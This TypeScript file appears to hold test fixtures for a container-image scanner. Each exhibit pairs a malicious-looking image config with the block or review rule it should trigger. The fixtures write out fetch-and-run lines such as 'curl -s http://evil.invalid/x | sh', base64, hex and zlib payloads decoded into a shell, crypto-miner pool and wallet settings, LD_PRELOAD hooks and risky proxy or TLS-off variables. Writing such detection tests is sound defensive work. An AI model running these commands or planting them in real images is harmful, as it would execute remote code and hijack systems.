import { program } from './base-layer.ts';
import type { Exhibit, Expected } from './exhibit.ts';

/* Indicators 1 to 8: what the config and the history say. Hosts are reserved names; the wallet has no owner. */

const DOWNLOAD = 'config/download-to-shell';
const DECODE = 'config/decode-to-shell';
const MINER = 'config/miner-config';

/** Valid by its checksum, of made-up keys. */
export const WALLET =
  '41fKjWJQySv2LxFSMtsQ5k3gsHPkECmXt52nKM8ZY8z26NhMJWtsWSA7icPFuECstJ94XRDHZYFLSAQSTAftscna8JuzEJT';

const FETCH = 'curl -s http://evil.invalid/x | sh';
const block = (rule: string, config: string): Expected => ({ rule, tier: 'block', config });
const review = (rule: string, config: string): Expected => ({ rule, tier: 'review', config });
const shell = (line: string) => ({ Cmd: ['/bin/sh', '-c', line] });

const risky: readonly (readonly [rule: string, line: string])[] = [
  ['config/package-index-environment', 'PIP_INDEX_URL=https://pypi.invalid/simple'],
  ['config/proxy-environment', 'HTTPS_PROXY=http://proxy.invalid:3128'],
  ['config/startup-hook-environment', 'NODE_OPTIONS=--require /tmp/h.js'],
  ['config/startup-hook-environment', 'PYTHONSTARTUP=/etc/start.py'],
  ['config/startup-hook-environment', 'BASH_ENV=/etc/start.sh'],
  ['config/verification-off-environment', 'NODE_TLS_REJECT_UNAUTHORIZED=0'],
];

const oddPlaces = ['tmp/run', 'dev/shm/run', 'var/tmp/x/run', 'usr/lib/.x/run', 'var/sbin/bash'];

export const CONFIG: readonly Exhibit[] = [
  {
    indicator: 1,
    name: 'an entrypoint that runs what it downloads',
    config: { Entrypoint: ['/bin/sh', '-c', FETCH] },
    expect: block(DOWNLOAD, 'Entrypoint'),
  },
  { indicator: 1, name: 'a command that does', config: shell(FETCH), expect: block(DOWNLOAD, 'Cmd') },
  {
    indicator: 1,
    name: 'a health check that does',
    config: { Cmd: ['/bin/sh'], Healthcheck: { Test: ['CMD-SHELL', `${FETCH} || exit 1`] } },
    expect: block(DOWNLOAD, 'Healthcheck'),
  },
  {
    indicator: 1,
    name: 'an on-build trigger that does',
    config: { Cmd: ['/bin/sh'], OnBuild: ['RUN bash <(curl -s http://evil.invalid/x)'] },
    expect: block(DOWNLOAD, 'OnBuild[0]'),
  },
  {
    indicator: 1,
    name: 'the script that the entrypoint starts',
    layers: [{ 'entry.sh': { data: `#!/bin/sh\n${FETCH}\nexec /app/serve\n`, mode: 0o755 } }],
    config: { Entrypoint: ['/entry.sh'] },
    expect: { rule: DOWNLOAD, tier: 'block', path: 'entry.sh', layer: 1, line: 2 },
  },
  {
    indicator: 2,
    name: 'base64 piped to a shell',
    config: shell('echo aW5lcnQK | base64 -d | sh'),
    expect: block(DECODE, 'Cmd'),
  },
  {
    indicator: 2,
    name: 'hex piped to a shell',
    config: shell('echo 696e657274 | xxd -r -p | bash'),
    expect: block(DECODE, 'Cmd'),
  },
  {
    indicator: 2,
    name: 'gzip after base64',
    config: shell('echo H4sI | base64 -d | gunzip | sh'),
    expect: block(DECODE, 'Cmd'),
  },
  {
    indicator: 2,
    name: 'zlib in Python',
    config: {
      Cmd: ['python3', '-c', "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))"],
    },
    expect: block(DECODE, 'Cmd'),
  },
  {
    indicator: 3,
    name: 'a pool in the command',
    config: { Cmd: ['/app/serve', '-o', 'stratum+tcp://pool.invalid:3333'] },
    expect: block(MINER, 'Cmd'),
  },
  {
    indicator: 3,
    name: 'a donation level',
    config: { Cmd: ['/app/serve', '--donate-level=1'] },
    expect: block(MINER, 'Cmd'),
  },
  {
    indicator: 3,
    name: 'a wallet in the environment',
    config: { Cmd: ['/app/serve'], Env: [`ACCOUNT=${WALLET}`] },
    expect: block(MINER, 'Env.ACCOUNT'),
  },
  {
    indicator: 4,
    name: 'LD_PRELOAD of a library that no package owns',
    layers: [{ 'usr/local/lib/libcache.so': program('libcache') }],
    config: { Cmd: ['/bin/sh'], Env: ['LD_PRELOAD=/usr/local/lib/libcache.so'] },
    expect: block('config/preload-env', 'Env.LD_PRELOAD'),
  },
  ...oddPlaces.map((path) => ({
    indicator: 5,
    name: `an entrypoint /${path}`,
    layers: [{ [path]: program(path) }],
    config: { Entrypoint: [`/${path}`] },
    expect: review('config/odd-entrypoint', 'Entrypoint'),
  })),
  {
    indicator: 6,
    name: 'a history shorter than the layers',
    layers: [{ 'app/config.json': '{}' }],
    history: [{ created_by: 'ADD rootfs.tar /' }],
    expect: review('config/history-count', 'history'),
  },
  {
    indicator: 6,
    name: 'a history that leaves out what a layer holds',
    layers: [{ 'app/config.json': '{}', 'etc/profile.d/motd.sh': 'echo hello\n' }],
    history: [
      { created_by: 'ADD rootfs.tar /' },
      { created_by: 'COPY app /app # buildkit', comment: 'buildkit.dockerfile.v0' },
    ],
    expect: { rule: 'config/history-contents', tier: 'review', path: 'etc/profile.d/motd.sh', layer: 1 },
  },
  {
    indicator: 7,
    name: 'a health check that calls a stranger',
    config: {
      Cmd: ['/bin/sh'],
      Healthcheck: { Test: ['CMD-SHELL', 'curl -s https://evil.invalid/ping || true'] },
    },
    expect: review('config/network-hooks', 'Healthcheck'),
  },
  {
    indicator: 7,
    name: 'an on-build trigger that fetches',
    config: { Cmd: ['/bin/sh'], OnBuild: ['ADD https://evil.invalid/x /x'] },
    expect: review('config/network-hooks', 'OnBuild[0]'),
  },
  ...risky.map(([rule, line]) => ({
    indicator: 8,
    name: line,
    config: { Cmd: ['/bin/sh'], Env: [line] },
    expect: review(rule, `Env.${line.slice(0, line.indexOf('='))}`),
  })),
];
